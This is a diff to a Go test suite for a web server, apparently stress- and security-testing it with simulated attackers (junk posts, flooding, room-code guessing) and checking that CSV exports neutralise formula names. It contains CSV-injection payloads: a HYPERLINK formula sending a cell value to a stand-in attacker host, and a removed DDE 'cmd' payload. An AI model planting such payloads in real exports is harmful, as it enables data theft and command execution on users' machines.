@@ -568,7 +568,7 @@ func attackers(h *served, sub api.Submission, stats *attackStats) []attacker {
 		}
 	}
 	evil := sub
-	evil.Record.Client, evil.Record.Agent = "model", `=HYPERLINK("http://evil.example/?"&A1,"open")`
+	evil.Record.Client, evil.Record.Agent = "model", `=HYPERLINK("http://evil.example/?"&A1,"open")` // refused: not a model's name
 	return []attacker{
 		{name: "junk", class: server.ClassWrite, ip: ip(1), pace: attackPace, next: func(i int) (string, string, []byte, []string) {
 			return "POST", h.base + "/api/runs", junk[i%len(junk)].body, nil
@@ -583,7 +583,7 @@ func attackers(h *served, sub api.Submission, stats *attackStats) []attacker {
 			return "POST", h.base + "/api/rooms", []byte(`{"suite":"standard"}`), []string{"Authorization", "Bearer " + h.teacherKey}
 		}},
 		{name: "assign", class: server.ClassWrite, ip: ip(5), pace: attackPace, next: func(i int) (string, string, []byte, []string) {
-			return "GET", h.base + fmt.Sprintf("/api/assign?participant=flood-%08d", i), nil, nil
+			return "POST", h.base + "/api/assign", []byte(fmt.Sprintf(`{"participant":"flood-%08d"}`, i)), nil
 		}},
 		{name: "guess", class: server.ClassLookup, ip: ip(6), pace: attackPace, next: func(i int) (string, string, []byte, []string) {
 			return "GET", h.base + "/api/rooms/" + randomCode(), nil, nil
@@ -702,8 +702,9 @@ func checkHeaders(t *testing.T, h *served) {
 	}
 }
 
-// checkCSV: the formula names stored by the injection attacker reach both
-// CSV exports neutralised.
+// checkCSV: formula names reach both CSV exports neutralised. (A model's
+// name can no longer hold one, api.CheckModelName; a program's participant
+// name can, and the room's CSV shows nicknames, not participants.)
 func checkCSV(t *testing.T, h *served, o *honest) {
 	c := clientFrom("127.0.0.1")
 	// A room with an injected run in it, made by a teacher.
@@ -713,7 +714,7 @@ func checkCSV(t *testing.T, h *served, o *honest) {
 		t.Fatalf("creating a room: %d %s", st, b)
 	}
 	sub := api.Submission{RunID: randomHex(12), Participant: "=SUM(A1:A9)", Consent: true, Room: room.Code, Record: o.recs[1]}
-	sub.Record.Client, sub.Record.Agent = "model", "-2+3+cmd|'/c calc'!A0"
+	sub.Record.Client, sub.Record.Agent = "model", "gpt-x"
 	body, _ := json.Marshal(sub)
 	if st, b, _ := c.do(context.Background(), "POST", h.base+"/api/runs", body, nil); st != http.StatusCreated {
 		t.Fatalf("storing a run with formula names: %d %s", st, b)
@@ -747,7 +748,7 @@ func checkCSV(t *testing.T, h *served, o *honest) {
 				}
 			}
 		}
-		if formulas == 0 {
+		if formulas == 0 && e.token == h.adminToken {
 			t.Errorf("GET %s: no neutralised formula among %d rows (the injected names are missing)", e.path, len(rows))
 		}
 	}
